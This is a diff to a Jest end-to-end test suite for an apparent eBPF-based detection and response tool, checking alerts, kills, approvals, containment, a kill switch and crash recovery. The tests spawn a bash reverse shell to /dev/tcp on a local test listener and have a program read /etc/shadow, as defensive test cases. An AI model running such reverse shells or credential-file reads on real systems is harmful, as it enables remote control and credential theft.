@@ -4,15 +4,16 @@ import { once } from 'node:events'
 import { mkdtemp, rm } from 'node:fs/promises'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
-import { afterAll, beforeAll, expect } from '@jest/globals'
+import { expect, jest } from '@jest/globals'
 import { needs } from '../scripts/needs.ts'
 import { eventually } from './support/eventually.ts'
 import { Riposte } from './support/riposte.ts'
+import { share } from './support/shared.ts'
 import { TestNetwork } from './support/test-network.ts'
 import { Victim } from './support/victim.ts'
 
 const test = needs('root', 'ebpf', 'redis')
-const patienceMs = 90_000
+jest.setTimeout(90_000)
 
 interface Decision {
   readonly policy: string
@@ -36,15 +37,11 @@ interface Row {
 let riposte: Riposte
 let scratch: string
 
-beforeAll(async () => {
+share(['root', 'ebpf', 'redis'], async (stack) => {
   scratch = await mkdtemp(join(tmpdir(), 'riposte-walk-'))
-  riposte = await Riposte.start({ 'walk-ask.yaml': askFirst, 'walk-hold.yaml': hold })
-}, patienceMs)
-
-afterAll(async () => {
-  await riposte?.[Symbol.asyncDispose]()
-  await rm(scratch, { recursive: true, force: true })
-}, patienceMs)
+  stack.defer(() => rm(scratch, { recursive: true, force: true }))
+  riposte = stack.use(await Riposte.start({ 'walk-ask.yaml': askFirst, 'walk-hold.yaml': hold }))
+})
 
 /** Every decision about the alerts of a rule whose output contains `mark`, once all are made and one satisfies. */
 const decisionsAbout = (rule: string, mark: string, isWanted: (decision: Decision) => boolean) =>
@@ -77,137 +74,109 @@ const liveContainment = (mark: string) =>
     (row) => row !== undefined,
   )
 
-test(
-  'an untrusted program that opens /etc/shadow is alerted on, and audit says that it would be killed',
-  async () => {
-    await using victim = await cat('walk-audit')
-    await victim.ended
+test('an untrusted program that opens /etc/shadow is alerted on, and audit says that it would be killed', async () => {
+  await using victim = await cat('walk-audit')
+  await victim.ended
 
-    expect(victim.signal).toBeNull()
-    expect(victim.printed).toMatch(/^root:/)
-    const line = await riposte.alerts.until(
-      (text) => text.includes('walk-audit') && text.includes('Sensitive'),
-    )
-    expect(line).toMatch(/^\d\d:\d\d:\d\d\.\d{9}: Warning Sensitive file .*file=\/etc\/shadow/)
-    const decisions = await decisionsAbout(
-      'Read sensitive file untrusted',
-      'walk-audit',
-      isKill('audit', 'would'),
-    )
-    expect(decisions.find(isKill('audit', 'would'))?.summary).toMatch(/would kill/)
-  },
-  patienceMs,
-)
+  expect(victim.signal).toBeNull()
+  expect(victim.printed).toMatch(/^root:/)
+  const line = await riposte.alerts.until(
+    (text) => text.includes('walk-audit') && text.includes('Sensitive'),
+  )
+  expect(line).toMatch(/^\d\d:\d\d:\d\d\.\d{9}: Warning Sensitive file .*file=\/etc\/shadow/)
+  const decisions = await decisionsAbout(
+    'Read sensitive file untrusted',
+    'walk-audit',
+    isKill('audit', 'would'),
+  )
+  expect(decisions.find(isKill('audit', 'would'))?.summary).toMatch(/would kill/)
+})
 
-test(
-  'in enforce the same act is killed inside the open, and not a byte of the file is printed',
-  async () => {
-    await setMode('credential-access', 'enforce')
-    await riposte.untilStrikesAre('credential-access', 'enforce')
+test('in enforce the same act is killed inside the open, and not a byte of the file is printed', async () => {
+  await setMode('credential-access', 'enforce')
+  await riposte.untilStrikesAre('credential-access', 'enforce')
 
-    await using victim = await cat('walk-enforce')
-    await victim.ended
+  await using victim = await cat('walk-enforce')
+  await victim.ended
 
-    expect(victim.printed).toBe('')
-    expect(victim.signal).toBe('SIGKILL')
-    await decisionsAbout('Read sensitive file untrusted', 'walk-enforce', isKill('enforce', 'done'))
-    await setMode('credential-access', 'audit')
-  },
-  patienceMs,
-)
+  expect(victim.printed).toBe('')
+  expect(victim.signal).toBe('SIGKILL')
+  await decisionsAbout('Read sensitive file untrusted', 'walk-enforce', isKill('enforce', 'done'))
+  await setMode('credential-access', 'audit')
+})
 
-test(
-  'a reverse shell dies with its whole tree and its connection is cut',
-  async () => {
-    await setMode('reverse-shell', 'enforce')
-    await using network = await TestNetwork.make()
-    const { address, port } = await network.listen()
+test('a reverse shell dies with its whole tree and its connection is cut', async () => {
+  await setMode('reverse-shell', 'enforce')
+  await using network = await TestNetwork.make()
+  const { address, port } = await network.listen()
 
-    const shell = spawn('bash', ['-c', `bash -i >& /dev/tcp/${address}/${port} 0>&1; exit 7`])
-    const ended = once(shell, 'exit')
-    await network.peerLeft()
-    await ended
+  const shell = spawn('bash', ['-c', `bash -i >& /dev/tcp/${address}/${port} 0>&1; exit 7`])
+  const ended = once(shell, 'exit')
+  await network.peerLeft()
+  await ended
 
-    await decisionsAbout('Reverse shell', `${address}:${port}`, isKill('enforce', 'done'))
-    await setMode('reverse-shell', 'audit')
-  },
-  patienceMs,
-)
+  await decisionsAbout('Reverse shell', `${address}:${port}`, isKill('enforce', 'done'))
+  await setMode('reverse-shell', 'audit')
+})
 
-test(
-  'a policy that asks waits for a person, and what was approved happens once',
-  async () => {
-    await using victim = await sleeper('walk-asked')
-    const id = await pendingAbout('walk-asked')
+test('a policy that asks waits for a person, and what was approved happens once', async () => {
+  await using victim = await sleeper('walk-asked')
+  const id = await pendingAbout('walk-asked')
 
-    expect(await victim.state()).toBe('S')
-    await riposte.cli('approvals', 'approve', id, '--reason', 'seen it')
-    await victim.ended
+  expect(await victim.state()).toBe('S')
+  await riposte.cli('approvals', 'approve', id, '--reason', 'seen it')
+  await victim.ended
 
-    expect(victim.signal).toBe('SIGKILL')
-    await expect(riposte.cli('approvals', 'approve', id, '--reason', 'again')).rejects.toThrow(
-      /already|approved/,
-    )
-    await expectOneKill('walk-asked')
-  },
-  patienceMs,
-)
+  expect(victim.signal).toBe('SIGKILL')
+  await expect(riposte.cli('approvals', 'approve', id, '--reason', 'again')).rejects.toThrow(
+    /already|approved/,
+  )
+  await expectOneKill('walk-asked')
+})
 
-test(
-  'a containment is listed, undone by hand, and leaves its target as it was',
-  async () => {
-    await using victim = await sleeper('walk-frozen')
+test('a containment is listed, undone by hand, and leaves its target as it was', async () => {
+  await using victim = await sleeper('walk-frozen')
 
-    const frozen = await liveContainment('walk-frozen')
-    expect(frozen?.action).toBe('freeze')
-    expect(await victim.state()).toBe('T')
-    await riposte.cli('containments', 'undo', frozen?.id ?? '')
+  const frozen = await liveContainment('walk-frozen')
+  expect(frozen?.action).toBe('freeze')
+  expect(await victim.state()).toBe('T')
+  await riposte.cli('containments', 'undo', frozen?.id ?? '')
 
-    await victim.untilState('S')
-  },
-  patienceMs,
-)
+  await victim.untilState('S')
+})
 
-test(
-  'the kill switch stops what is above notify, says so, and lets go again',
-  async () => {
-    await riposte.cli('kill-switch', 'on', '--reason', 'walk')
-    await using victim = await sleeper('walk-spared')
+test('the kill switch stops what is above notify, says so, and lets go again', async () => {
+  await riposte.cli('kill-switch', 'on', '--reason', 'walk')
+  await using victim = await sleeper('walk-spared')
 
-    const decisions = await decisionsAbout(
-      'Drop and execute',
-      'walk-spared',
-      ({ outcome }) => outcome?.status === 'suppressed',
-    )
+  const decisions = await decisionsAbout(
+    'Drop and execute',
+    'walk-spared',
+    ({ outcome }) => outcome?.status === 'suppressed',
+  )
 
-    expect(decisions.map(({ outcome }) => outcome?.status)).not.toContain('done')
-    expect(await victim.state()).toBe('S')
-    await riposte.cli('kill-switch', 'off')
-  },
-  patienceMs,
-)
+  expect(decisions.map(({ outcome }) => outcome?.status)).not.toContain('done')
+  expect(await victim.state()).toBe('S')
+  await riposte.cli('kill-switch', 'off')
+})
 
-test(
-  'the responder and its Redis killed between decision and act: after the restart the act happened once',
-  async () => {
-    await using victim = await sleeper('walk-crash')
-    const id = await pendingAbout('walk-crash')
-    const [detector, redis] = [await riposte.pidOf('detector'), await riposte.pidOf('redis')]
+test('the responder and its Redis killed between decision and act: after the restart the act happened once', async () => {
+  await using victim = await sleeper('walk-crash')
+  const id = await pendingAbout('walk-crash')
+  const [detector, redis] = [await riposte.pidOf('detector'), await riposte.pidOf('redis')]
 
-    // The node stands still while it is decided, so that the decision is durable and the act is not done.
-    process.kill(detector, 'SIGSTOP')
-    await riposte.cli('approvals', 'approve', id, '--reason', 'seen it')
-    await riposte.crash([redis])
-    process.kill(detector, 'SIGCONT')
-    expect(await victim.state()).toBe('S')
-    await riposte.up()
-    await victim.ended
+  // The node stands still while it is decided, so that the decision is durable and the act is not done.
+  process.kill(detector, 'SIGSTOP')
+  await riposte.cli('approvals', 'approve', id, '--reason', 'seen it')
+  await riposte.crash([redis])
+  process.kill(detector, 'SIGCONT')
+  expect(await victim.state()).toBe('S')
+  await riposte.up()
+  await victim.ended
 
-    expect(victim.signal).toBe('SIGKILL')
-    await expectOneKill('walk-crash')
-  },
-  patienceMs,
-)
+  expect(victim.signal).toBe('SIGKILL')
+  await expectOneKill('walk-crash')
+})
 
 /** The id of the approval that waits for a decision about this program. */
 async function pendingAbout(mark: string): Promise<string> {
